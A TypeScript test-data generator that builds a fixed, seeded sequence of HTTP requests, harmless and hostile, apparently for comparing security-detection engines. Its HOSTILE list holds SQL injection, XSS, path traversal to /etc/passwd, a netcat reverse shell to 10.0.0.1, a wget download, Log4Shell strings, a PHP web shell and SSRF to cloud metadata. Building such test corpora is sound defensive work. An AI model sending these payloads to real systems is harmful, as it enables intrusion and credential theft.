/** Requests of a fixed sequence, harmless and hostile ones, for comparisons of engines. */
import type { OracleRequest } from './oracle.ts';

type Header = readonly [name: string, value: string];

/** Draws from a fixed sequence. */
class Dice {
  #state: number;

  constructor(seed: number) {
    this.#state = seed >>> 0;
  }

  below(bound: number): number {
    this.#state = (Math.imul(this.#state, 1_664_525) + 1_013_904_223) >>> 0;
    return (this.#state >>> 8) % bound;
  }

  /** True once in so many times. */
  once(times: number): boolean {
    return this.below(times) === 0;
  }

  pick<T>(from: readonly [T, ...T[]]): T {
    return from[this.below(from.length)] ?? from[0];
  }

  list<T>(most: number, make: () => T): T[] {
    return Array.from({ length: this.below(most + 1) }, make);
  }
}

const HARMLESS = [
  ...[
    '1',
    '42',
    '-7',
    '3.14',
    'true',
    'null',
    '',
    'open',
    'created_at',
    'Jane Doe',
    'jane.doe@example.com',
    '2026-11-28',
  ],
  ...[
    '2026-11-28T15:00:00Z',
    '550e8400-e29b-41d4-a716-446655440000',
    'Main Street 12',
    'Zürich',
    '日本語',
    'a+b',
    '50%',
    'R&D',
  ],
  ...["It is 5 o'clock", 'Say "hi"', 'C++ and C#', 'select a colour', 'drop me a line', 'union of workers or unions'],
  ...[
    'https://example.com/a?b=c',
    '/usr/share/doc',
    'name <jane@example.com>',
    '1 = 1',
    '(a or b) and c',
    '{"a": 1}',
    'x'.repeat(500),
  ],
  ...[
    'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1c3JfNDIifQ.c2ln',
    'cat and dog',
    'python 3',
    'order by date',
    'a; b',
    'tel:+41 44 668 18 00',
  ],
] as const;

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: they are no placeholders here
const HOSTILE = [
  ...[
    "1' OR '1'='1",
    "' or 1=1 -- ",
    '1 UNION SELECT username, password FROM users',
    "'; DROP TABLE users; --",
    '1 AND SLEEP(5)',
    "admin'/*",
  ],
  ...[
    '0x50 or 1',
    "1' into outfile '/tmp/a",
    "1;waitfor delay '0:0:5'--",
    'extractvalue(1,concat(0x7e,version()))',
    '@@version',
    '" or ""="',
  ],
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'javascript:alert(document.cookie)',
    '<svg/onload=alert`1`>',
    '"><iframe src=//a.b>',
  ],
  ...[
    '<a href="data:text/html,<script>">',
    '{{constructor.constructor("alert(1)")()}}',
    "'-alert(1)-'",
    '<ScRiPt>',
    'expression(alert(1))',
    '<!--[if',
  ],
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/shadow',
    '.htaccess',
    'file:///etc/passwd',
    '....//....//etc/hosts',
    '/.git/config',
  ],
  ...[
    '; cat /etc/passwd',
    '$(id)',
    '`whoami`',
    '| nc -e /bin/sh 10.0.0.1 4444',
    '&& ping -c 1 a.b',
    '() { :; }; echo',
    'powershell -enc AAAA',
    '/bin/b?sh',
  ],
  ...[
    'c^md.exe /c dir',
    "c'a't /e't'c/passwd",
    'wget http://10.0.0.1/x',
    '${jndi:ldap://a.b/x}',
    '${${lower:j}ndi:rmi://a}',
    'rO0ABXNyABFqYXZh',
  ],
  ...[
    '<?php system($_GET["c"]); ?>',
    'php://filter/convert.base64-encode/resource=a',
    'O:8:"stdClass":0:{}',
    'phpinfo()',
    'base64_decode("a")',
    '$_SERVER',
  ],
  ...[
    'http://169.254.169.254/latest/meta-data/',
    'http://2130706433/',
    'gopher://127.0.0.1:25/',
    '{{7*7}}',
    '<%= 7*7 %>',
    '#{7*7}',
    '__proto__',
    'constructor.prototype',
  ],
  ...[
    'process.mainModule.require("child_process")',
    'java.lang.Runtime.getRuntime().exec("id")',
    'Class.forName',
    'eval(String.fromCharCode(97))',
    '_$$ND_FUNC$$_',
  ],
  ...[
    'a\r\nSet-Cookie: a=b',
    'a\r\n\r\n<html>',
    '\0',
    'a\0b',
    '%00',
    '\ufeff',
    '(&(uid=*)(a=b))',
    '*)(uid=*))(|(uid=*',
    'sessionid=1&PHPSESSID=a',
    '%u0027',
    '&#39; or 1=1',
  ],
  ...[
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    '\xff\xfe',
    'ﬀ＜script＞',
    '\\u003cscript\\u003e',
    '\\x3cscript',
    '$where',
    '{"$gt": ""}',
    '<!--#exec cmd="id"-->',
  ],
] as const;
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: they are no placeholders here

const NAMES = [
  'q',
  'id',
  'name',
  'a[b]',
  'user.email',
  'X',
  'redirect_uri',
  'file',
  'a b',
  'json.a',
  '',
  'é',
  'sort',
  '$where',
  'PHPSESSID',
  "a'b",
  '<b>',
  'limit',
] as const;
const PATHS = [
  '/',
  '/v1/orders',
  '/v1/orders/42',
  '/index.php',
  '/a//b',
  '/a/./b',
  '/a/../b',
  '/%2e%2e/a',
  '/caf%C3%A9',
  '/a;b=c',
  '/wp-admin',
  '/a.bak',
  '/.env',
  '/a%20b',
  '/a%2fb',
  '/a%zz',
  '/cgi-bin/a.sh',
  '/a.JSON',
  '/\\a',
] as const;
const METHODS = [
  'GET',
  'GET',
  'GET',
  'POST',
  'POST',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'HEAD',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
] as const;
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'curl/8.5.0',
  'sqlmap/1.7',
  'Nikto/2.5',
  '',
  'python-requests/2.31',
] as const;

/** Writes a text into a query or form; `doubled`: percent signs once more. */
function encode(dice: Dice, text: string): string {
  const bytes = Buffer.from(text);
  const hex = (byte: number) => `%${byte.toString(16).padStart(2, '0')}`;
  switch (dice.below(8)) {
    case 0:
      return [...bytes].map(hex).join('');
    case 1:
      return encodeURIComponent(text.toWellFormed()).replaceAll('%', '%25');
    case 2:
      return [...bytes].map((byte) => `%u00${byte.toString(16).padStart(2, '0')}`).join('');
    case 3:
      return bytes.toString('latin1').replaceAll(/[\0-\x20&#+]/g, (char) => hex(char.charCodeAt(0)));
    case 4:
      return encodeURIComponent(text.toWellFormed()).replaceAll('%20', '+');
    default:
      return encodeURIComponent(text.toWellFormed());
  }
}

function value(dice: Dice, hostility: number): string {
  return dice.below(10) < hostility ? dice.pick(HOSTILE) : dice.pick(HARMLESS);
}

function pairs(dice: Dice, most: number, hostility: number): string {
  const pair = () =>
    `${encode(dice, dice.pick(NAMES))}${dice.once(12) ? '' : '='}${encode(dice, value(dice, hostility))}`;
  return dice.list(most, pair).join(dice.once(30) ? ';' : '&');
}

function json(dice: Dice, depth: number, hostility: number): unknown {
  switch (depth === 0 ? 3 : dice.below(5)) {
    case 0:
      return dice.list(4, () => json(dice, depth - 1, hostility));
    case 1:
    case 2:
      return Object.fromEntries(dice.list(5, () => [dice.pick(NAMES), json(dice, depth - 1, hostility)]));
    default:
      return dice.once(4) ? dice.pick([null, true, false, 0, -1.5, 1e21, 42]) : value(dice, hostility);
  }
}

function jsonText(dice: Dice, hostility: number): string {
  const text = JSON.stringify(json(dice, 4, hostility));
  if (dice.once(12)) return text.slice(0, dice.below(text.length + 1));
  if (dice.once(20)) return text.replaceAll(/[a-z]/g, (char) => `\\u00${char.charCodeAt(0).toString(16)}`);
  return dice.once(20) ? `${text}${text}` : text;
}

function xml(dice: Dice, hostility: number): string {
  const escaped = (text: string) =>
    dice.once(3) ? text : text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
  const element = (depth: number): string => {
    const name = dice.pick(['a', 'b', 'ns:c', 'soap:Body']);
    const attributes = dice
      .list(2, () => ` ${dice.pick(['x', 'y', 'z'])}="${escaped(value(dice, hostility))}"`)
      .join('');
    const content =
      depth > 0 && dice.once(2) ? dice.list(3, () => element(depth - 1)).join('') : escaped(value(dice, hostility));
    return dice.once(12) ? `<${name}${attributes}/>` : `<${name}${attributes}>${content}</${name}>`;
  };
  const head = dice.once(3) ? '<?xml version="1.0"?>' : '';
  const cdata = dice.once(6) ? `<a><![CDATA[${value(dice, hostility)}]]></a>` : '';
  return `${head}${cdata}${element(3)}${dice.once(10) ? '<!-- a -->' : ''}`;
}

const BOUNDARIES = ['x', '----WebKitFormBoundary7MA4YWxkTrZu0gW', '"a b"', "a'b"] as const;

function multipart(dice: Dice, boundary: string, hostility: number): string {
  const mark = boundary.replaceAll('"', '');
  const line = dice.once(15) ? '\n' : '\r\n';
  const part = () => {
    const file = dice.once(3)
      ? `; filename="${dice.pick(['a.png', 'a.php', '../a', 'a.jsp.txt', value(dice, hostility).replaceAll(/["\r\n]/g, '')])}"`
      : '';
    const type = dice.once(3)
      ? `${line}Content-Type: ${dice.pick(['text/plain', 'image/png', 'text/plain; charset=utf-7'])}`
      : '';
    const odd = dice.once(15)
      ? `${line}${dice.pick(['X-A: b', 'Content-Transfer-Encoding: base64', ' folded', 'no colon', '\x0eA: b'])}`
      : '';
    const name = dice.once(15) ? 'name=a' : `name="${dice.pick(NAMES)}"`;
    return `--${mark}${line}Content-Disposition: form-data; ${name}${file}${type}${odd}${line}${line}${value(dice, hostility)}${line}`;
  };
  return `${dice.once(20) ? 'before\r\n' : ''}${dice.list(4, part).join('')}${dice.once(10) ? '' : `--${mark}--${line}`}`;
}

interface Content {
  readonly type: string | null;
  readonly body: Buffer;
}

function content(dice: Dice, hostility: number): Content {
  const utf8 = (type: string | null, text: string): Content => ({ type, body: Buffer.from(text) });
  switch (dice.below(10)) {
    case 0:
    case 1:
    case 2:
      return utf8(
        dice.pick(['application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=utf-8']),
        pairs(dice, 6, hostility),
      );
    case 3:
    case 4:
    case 5:
      return utf8(
        dice.pick([
          'application/json',
          'application/json',
          'application/json; charset=utf-8',
          'application/vnd.a+json',
        ]),
        jsonText(dice, hostility),
      );
    case 6:
      return utf8(
        dice.pick(['text/xml', 'application/xml', 'application/soap+xml; charset=utf-8']),
        xml(dice, hostility),
      );
    case 7:
    case 8: {
      const boundary = dice.pick(BOUNDARIES);
      return utf8(`multipart/form-data; boundary=${boundary}`, multipart(dice, boundary, hostility));
    }
    default:
      return utf8(
        dice.pick([null, 'text/plain', 'application/octet-stream', 'text/html; charset=utf-7', '']),
        value(dice, hostility),
      );
  }
}

/** Headers of a client of an API, as browsers send them. */
function plainHeaders(dice: Dice): Header[] {
  const list: Header[] = [
    ['Host', 'api.example.com'],
    ['User-Agent', AGENTS[0]],
    ['Accept', 'application/json'],
    ['Authorization', 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1In0.c2ln'],
  ];
  if (dice.once(2)) list.push(['Cookie', `sid=${dice.below(1_000_000)}; theme=dark`]);
  return list;
}

function headers(dice: Dice, hostility: number): Header[] {
  const list: Header[] = [
    ['Host', dice.pick(['api.example.com', 'api.example.com', 'api.example.com:8080', '127.0.0.1', 'localhost', ''])],
  ];
  const agent = dice.pick(AGENTS);
  if (agent !== '') list.push(['User-Agent', agent]);
  if (!dice.once(5))
    list.push(['Accept', dice.pick(['application/json', '*/*', 'text/html,application/xhtml+xml', ''])]);
  const latin = (text: string) =>
    Buffer.from(text.replaceAll(/[\0\r\n]/g, ''))
      .toString('latin1')
      .trim();
  const more: (() => Header)[] = [
    () => [
      'Cookie',
      dice
        .list(
          4,
          () =>
            `${dice.pick(['a', 'sid', '$Version', 'b c', ''])}${dice.once(8) ? '' : '='}${latin(value(dice, hostility))}`,
        )
        .join(dice.once(5) ? ';' : '; '),
    ],
    () => ['Referer', dice.once(2) ? 'https://example.com/' : latin(value(dice, hostility))],
    () => ['Authorization', 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1In0.c2ln'],
    () => ['Accept-Encoding', dice.pick(['gzip, deflate, br', 'identity', '*'])],
    () => ['Accept-Language', dice.pick(['en', 'de-CH, de;q=0.9', latin(value(dice, hostility))])],
    () => ['X-Forwarded-For', dice.pick(['10.0.0.1', '127.0.0.1, 1.2.3.4', latin(value(dice, hostility))])],
    () => [dice.pick(['X-Api-Key', 'X_Odd', 'x.y', 'If-None-Match']), latin(value(dice, hostility))],
    () => ['Range', dice.pick(['bytes=0-1', 'bytes=5-1', 'bytes=1-2,3-4,5-6,7-8,9-10,11-12', 'a'])],
    () => ['Content-Encoding', dice.pick(['gzip', 'identity', 'a'])],
    () => ['Connection', dice.pick(['close', 'keep-alive', 'keep-alive, close', 'upgrade'])],
    () => ['Upgrade', 'websocket'],
    () => ['Proxy', 'http://a.b/'],
    () => ['Expect', '100-continue'],
    () => ['Cache-Control', 'no-cache'],
  ];
  const [first, ...others] = more;
  if (first === undefined) return list;
  return [...list, ...dice.list(4, () => dice.pick([first, ...others])())];
}

function request(dice: Dice, index: number): OracleRequest {
  // Tenths of the values that are hostile.
  const hostility = dice.pick([0, 0, 3, 7]);
  const isPlain = dice.once(2);
  const method = isPlain
    ? dice.pick(['GET', 'POST'])
    : dice.once(40)
      ? dice.pick(['get', 'FOO', "G'T"])
      : dice.pick(METHODS);
  const query = dice.once(3) ? '' : `?${pairs(dice, 5, hostility)}`;
  const path = isPlain
    ? dice.pick(['/v1/orders', '/v1/orders/42', '/'])
    : dice.once(10)
      ? `/${encode(dice, value(dice, hostility))}`
      : dice.pick(PATHS);
  const target = `${dice.once(60) ? 'http://api.example.com' : ''}${path}${query}${dice.once(80) ? '#a' : ''}`;
  const list = isPlain ? plainHeaders(dice) : headers(dice, hostility);
  const hasBody = /^P/.test(method) ? !dice.once(12) : dice.once(15);
  const { type, body } = hasBody ? content(dice, hostility) : { type: null, body: Buffer.alloc(0) };
  if (type !== null) list.push([dice.once(20) ? 'content-type' : 'Content-Type', type]);
  if (type !== null && dice.once(60)) list.push(['Content-Type', 'text/plain']);
  if (body.length > 0 || /^P/.test(method)) {
    if (dice.once(30)) list.push(['Transfer-Encoding', 'chunked']);
    else if (!dice.once(40)) list.push(['Content-Length', dice.once(40) ? '1, 2' : String(body.length)]);
  }
  const page = dice.pick([
    '<html><b>ok</b></html>',
    'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version',
    '<?php echo 1; ?>',
    'ORA-00933: SQL command not properly ended',
    '{"a":1}',
    'java.lang.NullPointerException\n\tat a.b.C.d(C.java:1)',
    '<title>Index of /</title>Index of /',
  ]);
  const response = dice.once(4)
    ? {
        status: dice.pick([200, 200, 404, 500]),
        headers: [['Content-Type', dice.pick(['text/html; charset=utf-8', 'text/plain', 'application/json'])] as const],
        body: Buffer.from(page),
      }
    : null;
  return {
    id: String(index),
    method,
    target,
    version: dice.once(50) ? dice.pick(['HTTP/1.0', 'HTTP/0.9', 'HTTP/3', 'a']) : 'HTTP/1.1',
    headers: list,
    body,
    response,
  };
}

/** The same requests each time, for the same seed. Their texts have bytes as characters. */
export function generatedRequests(count: number, seed = 1): OracleRequest[] {
  const dice = new Dice(seed);
  return Array.from({ length: count }, (_, index) => request(dice, index));
}
